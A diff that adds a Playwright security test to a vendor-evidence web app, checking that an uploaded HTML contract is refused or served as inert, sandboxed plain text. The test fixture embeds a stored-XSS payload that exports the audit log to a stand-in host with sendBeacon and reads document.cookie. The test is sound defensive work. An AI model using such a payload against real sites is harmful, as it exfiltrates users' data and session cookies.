@@ -107,6 +107,37 @@ test("the evidence download keeps its own sandbox CSP; pages keep the nonce CSP"
   expect(html.headers()["content-security-policy"]).toMatch(/script-src 'self' 'nonce-/);
 });
 
+test("an HTML contract carrying a script is stored as inert text: a plain-text attachment, unsniffable and sandboxed; other evidence refuses it", async ({ page, browser }) => {
+  const vendor = await vendorMadeByProcurement(browser, "HTML contract");
+  const request = await signedIn(page, "legal");
+  const body = Buffer.from(
+    `<!DOCTYPE html><html><head><script>fetch("/api/audit-log/export").then(r => r.text()).then(t => navigator.sendBeacon("https://attacker.invalid", t))</script></head><body onload="alert(document.cookie)"><h2>Audit</h2><p>The Customer may audit the Supplier's premises on 10 days' notice. ${randomBytes(8).toString("hex")}</p></body></html>`,
+  );
+  const before = evidenceCount(vendor.id);
+  const refused = await request.post(`/api/vendors/${vendor.id}/evidence?kind=other&effectiveDate=2026-01-01`, {
+    headers: { "content-type": "text/html", "x-file-name": "terms.html" },
+    data: body,
+  });
+  expect(refused.status()).toBe(400);
+  expect(((await refused.json()) as { error: string }).error).toMatch(/HTML or XML markup/);
+  expect(evidenceCount(vendor.id)).toBe(before);
+
+  const created = await request.post(`/api/vendors/${vendor.id}/evidence?kind=contract&effectiveDate=2026-01-01`, {
+    headers: { "content-type": "text/html", "x-file-name": "terms.html" },
+    data: body,
+  });
+  expect(created.status()).toBe(201);
+  const { document } = (await created.json()) as { document: { id: string } };
+  const download = await request.get(`/api/evidence/${document.id}`);
+  expect(download.status()).toBe(200);
+  const headers = download.headers();
+  expect(headers["content-type"]).toBe("text/plain; charset=utf-8");
+  expect(headers["content-disposition"]).toMatch(/^attachment;/);
+  expect(headers["x-content-type-options"]).toBe("nosniff");
+  expect(headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
+  expect((await download.body()).equals(body)).toBe(true);
+});
+
 test("malformed percent-escapes get 400, for pages and route handlers, signed in or not", async ({ page, playwright, baseURL }) => {
   const paths = ["/assessments/%ZZ/report.pdf", "/vendors/%ZZ", "/vendors/%E0%A4%A/evidence", "/api/evidence/%ZZ", "/api/vendors/%ZZ/audit-pack"];
   const request = await signedIn(page, "security");
